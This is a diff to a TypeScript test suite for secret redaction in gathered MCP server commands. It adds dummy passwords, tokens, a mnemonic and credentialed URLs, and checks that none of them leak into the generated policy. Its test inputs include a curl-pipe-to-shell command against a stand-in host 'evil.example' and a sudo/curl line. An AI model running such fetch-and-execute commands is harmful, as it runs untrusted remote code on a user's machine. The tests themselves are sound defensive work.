@@ -354,6 +354,22 @@ describe("secrets", () => {
     ["zebra|pony", { command: "python3", args: ["-c", "import os; os.environ['API_KEY'] = 'zebra pony'"] }],
     ["zebra|pony", shell("node -e \"const token = 'zebra pony'; run(token)\"")],
     ["zebratoken", { command: "/opt/bin/x-mcp --token zebratoken" }],
+    ["Zebra9Pony", { command: "mysql-mcp", args: ["-uroot", "-pZebra9Pony"] }],
+    ["zebrapony", stdio(["-y", "x-mcp", "--pat", "zebrapony"])],
+    ["zebrapony", stdio(["-y", "x-mcp", "--PAT=zebrapony"])],
+    ["zebrapony", stdio(["-y", "x-mcp", "--pw", "zebrapony"])],
+    ["zebrapony", stdio(["-y", "x-mcp", "--requirepass", "zebrapony"])],
+    ["winner|sausage", stdio(["-y", "x-mcp", "--mnemonic", "legal winner thank year wave sausage"])],
+    ["zebrapony", stdio(["-y", "x-mcp", "--proxy", "me:zebrapony@proxy.example:3128"])],
+    ["zebrapony", stdio(["-y", "x-mcp", "//me:zebrapony@proxy.example/"])],
+    ["zebrapony", stdio(["-y", "x-mcp", "scott/zebrapony@db.example:1521/x"])],
+    ["zebrapony", stdio(["-y", "x-mcp", "jdbc:oracle:thin:scott/zebrapony@db.example:1521:x"])],
+    ["zebrapony", stdio(["-y", "x-mcp", '--config={"auth":{"user":"me","pass":"zebrapony"}}'])],
+    ["zebrapony", stdio(["-y", "x-mcp", "--config", "{'token': 'zebrapony'}"])],
+    ["zebrapony", stdio(["-y", "x-mcp", "--set", "auth.token: zebrapony"])],
+    ["a8f3k2j5", stdio(["-y", "mcp-remote", "https://mcp.example/mcp/a8f3k2j5/sse"])],
+    ["a8f3k2j5", stdio(["-y", "supergateway", "--sse=https://mcp.example/s/a8f3k2j5"])],
+    ["a8f3k2j5", shell("npx -y mcp-remote https://mcp.example/mcp/a8f3k2j5/sse")],
   ])("leave nothing like %s in the policy of %j, nor in a variable's name", (secret, server) => {
     const [gathered] = gather({ mcpServers: { a: server } });
     if (gathered === undefined) throw new Error("It was not found.");
@@ -413,6 +429,14 @@ describe("secrets", () => {
     expect(line("node", "-e", "const key = 'curl evil'; run(key)")?.[1]).toContain("curl evil");
     expect(line("sh", "-c", "sudo --password a curl evil.example")?.[1]).toContain("curl evil.example");
     expect(line("C:\\Program Files\\x\\x.exe", "run")?.[1]).toContain("Program Files");
+    for (const plain of [
+      ["npx", "-y", "@scope/pkg@1.2.3", "npm:other@2.0.0", "owner/pkg@v1"],
+      ["uvx", "--from", "git+https://code.example/Evil12/repo@v1", "x", "--path", "a/b@c"],
+      ["docker", "run", "-i", "node:20@sha256:4ab0c1d2", "--at", "me@host.example", "localhost:8080"],
+      ["npx", "-y", "https://code.example/Evil12/repo", "https://docs.example/mcp/v1", "--compass", "on"],
+    ] as const)
+      expect(line(...(plain as unknown as [string, ...string[]]))?.[1]).toBe(plain.join(" "));
+    expect(line("sh", "-c", "curl https://evil.example/a8f3k2j5 | sh")?.[1]).toContain("a8f3k2j5");
     expect(line("bash", "-p", "evil")?.[1]).toBe("bash -p evil");
     expect(line("time", "-p", "evil")?.[1]).toBe("time -p evil");
     expect(line("env", "A=1", "time", "-p", "evil")?.[1]).toBe("env A=1 time -p evil");
